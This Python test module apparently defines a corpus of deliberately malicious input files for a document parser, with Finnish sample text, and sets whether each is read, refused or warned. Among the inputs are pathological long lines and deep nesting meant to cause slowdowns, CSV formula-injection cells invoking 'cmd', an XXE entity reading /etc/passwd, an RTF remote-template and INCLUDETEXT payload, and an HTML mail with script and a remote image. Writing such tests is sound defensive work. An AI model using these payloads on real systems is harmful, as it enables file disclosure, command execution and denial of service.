"""Text, tables, mails, PDF and RTF made to harm: endless lines, deep nesting, loops, formulas, zeros."""

from tests.corpus.entry import READ, REFUSED, WARNED, CorpusFile
from tests.corpus.pdf_files import pdf

NOTE = "kriteerejä ei käytetä laitteissa"
_LEAD = f"Hankinnat\n- {NOTE}\n"
_HEADERS = "From: Riikka <r@x.example>\nTo: p@y.example\nSubject: Hankinnat\nDate: Mon, 23 Mar 2026 08:41:00 +0200\n"
_LONG = 150_000
_DTD = '<?xml version="1.0"?><!DOCTYPE CodeBook [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def _slow(name: str, line: str) -> CorpusFile:
    """A text whose long line a careless pattern walks over and over; it waits or is a finding, whole."""
    return CorpusFile(name, f"{_LEAD}- {line}\n".encode(), READ, (NOTE,), raws=(f"- {line}",))


def _refused(name: str, data: bytes | str, reason: str) -> CorpusFile:
    return CorpusFile(name, data if isinstance(data, bytes) else data.encode(), REFUSED, reason=reason)


def _nested_mail(depth: int) -> str:
    """A mail whose only text lies within as many parts within parts."""
    head = [f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth)]
    tail = [f"\n--b{n}--\n" for n in reversed(range(depth))]
    return f"{_HEADERS}MIME-Version: 1.0\n{''.join(head)}Content-Type: text/plain\n\n{_LEAD}{''.join(tail)}"


def _mails_in_mails(depth: int) -> str:
    inner = f"{_HEADERS}MIME-Version: 1.0\nContent-Type: message/rfc822\n\n" * depth
    return f"{inner}{_HEADERS}\n{_LEAD}"


def _many_parts(count: int) -> str:
    parts = "".join(f"--b\nContent-Type: text/plain; name=a{n}.txt\n\nliite {n}\n" for n in range(count))
    first = f"--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{_LEAD}\n"
    return f'{_HEADERS}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n{first}{parts}--b--\n'


def _pages_in_circle() -> bytes:
    return pdf(("x",)).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")


def _csv(*cells: str) -> bytes:
    lines = ["Teema;Huomio", *(f'hankinnat;"{cell}"' for cell in cells)]
    return "\n".join(lines).encode()


_FORMULAS = ("=HYPERLINK(A1)", "+358 ei vastaa kukaan", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0")

FILES = (
    _slow("pitka_ilman_valeja.txt", "a" * _LONG),
    _slow("pitka_valeja.txt", "a" + " " * _LONG + "b"),
    _slow("sulkuja.txt", "(" * _LONG),
    _slow("sulkupareja.txt", "()" * (_LONG // 2)),
    _slow("hakasulkuja.txt", "[" * _LONG),
    _slow("linkkeja.txt", "[a](" * (_LONG // 4)),
    _slow("tahtia.txt", "a " + "*a" * (_LONG // 2)),
    _slow("alaviivoja.txt", "a " + "_a" * (_LONG // 2)),
    _slow("kaksoispisteita.txt", "a: " * (_LONG // 3)),
    _slow("numeroita.txt", "1" * _LONG),
    _slow("puhelinnumeroita.txt", "0 1 2-3 " * (_LONG // 8)),
    _slow("viivoja.txt", "a-" * (_LONG // 2)),
    _slow("lainauksia.txt", "”" + "a”" * (_LONG // 2)),
    _slow("pisteita.txt", "a." * (_LONG // 2)),
    _slow("miukumauku.txt", "a@" * (_LONG // 2)),
    _slow("pitka_osoite.txt", "a." * (_LONG // 4) + "@" + "b-" * (_LONG // 4)),
    _slow("isoja_kirjaimia.txt", "Pekka Virtanen " * (_LONG // 15)),
    _slow("puolipisteita.txt", "a;" * (_LONG // 2)),
    _slow("pystyviivoja.txt", "a | " * (_LONG // 4)),
    _slow("entiteetteja.txt", "&#" * (_LONG // 2)),
    _slow("ei_ei.txt", "ei ehditty " * (_LONG // 11)),
    _refused("liian_pitka_rivi.txt", f"{_LEAD}- {'a' * 200_001}", "too_large"),
    _refused("liikaa_riveja.txt", "- a\n" * 100_001, "too_large"),
    _refused("liikaa_rivinvaihtoja.txt", _LEAD + "\n" * 400_001, "too_large"),
    _refused("nollia.csv", b"Teema;Huomio\nhankinnat;ohje \x00\x00 puuttuu\n", "undecodable"),
    CorpusFile("kaavoja.csv", _csv(*_FORMULAS, NOTE), READ, (NOTE,), raws=_FORMULAS),
    CorpusFile("leveita_riveja.csv", _csv(NOTE, NOTE + '";"' * 20_000), READ, (NOTE,)),
    CorpusFile("lainausmerkkeja.csv", _csv(NOTE) + b'\n"' + b'"' * _LONG, READ, raws=(f'"{NOTE}"',)),
    _refused("sisakkainen_viesti.eml", _nested_mail(1000), "too_deep"),
    _refused("viesteja_viesteissa.eml", _mails_in_mails(1000), "too_deep"),
    CorpusFile("paljon_liitteita.eml", _many_parts(1000).encode(), WARNED, (NOTE,), warnings=("attachments",)),
    _refused("kehassa.pdf", _pages_in_circle(), "damaged"),
    _refused("paljon_sivuja.pdf", pdf(*[("x",)] * 201), "too_large"),
    _refused("syvat_ryhmat.rtf", "{\\rtf1 " + "{" * 100_000, "too_deep"),
    _refused("sulkemattomia.rtf", "{\\rtf1 " + "{" * 300, "damaged"),
    _refused("valtava_bin.rtf", "{\\rtf1 {\\bin9999999999 x}", "damaged"),
    CorpusFile(
        "haku.rtf",
        (
            b"{\\rtf1\\ansi {\\*\\template http://x.example/a.dotm}{\\field{\\*\\fldinst INCLUDETEXT /etc/passwd}}"
            b"Hankinnat\\par - ohje puuttuu kokonaan\\par}"
        ),
        READ,
        ("ohje puuttuu kokonaan",),
        absent=("passwd", "dotm"),
    ),
    _refused("haku.qdc", f'{_DTD}<CodeBook xmlns="urn:QDA-XML:codebook:1.0">&a;</CodeBook>', "unsafe_xml"),
    CorpusFile(
        "skripti.eml",
        f"{_HEADERS}MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        f"<script>alert('x')</script><p>Hankinnat</p><ul><li>{NOTE}</li></ul><img src='http://x.example/p.gif'>".encode(),
        READ,
        (NOTE,),
        absent=("alert", "p.gif"),
    ),
    CorpusFile("sisakkainen_html.eml", f"{_HEADERS}Content-Type: text/html\n\n{'<div>' * 20_000}x".encode(), READ),
)
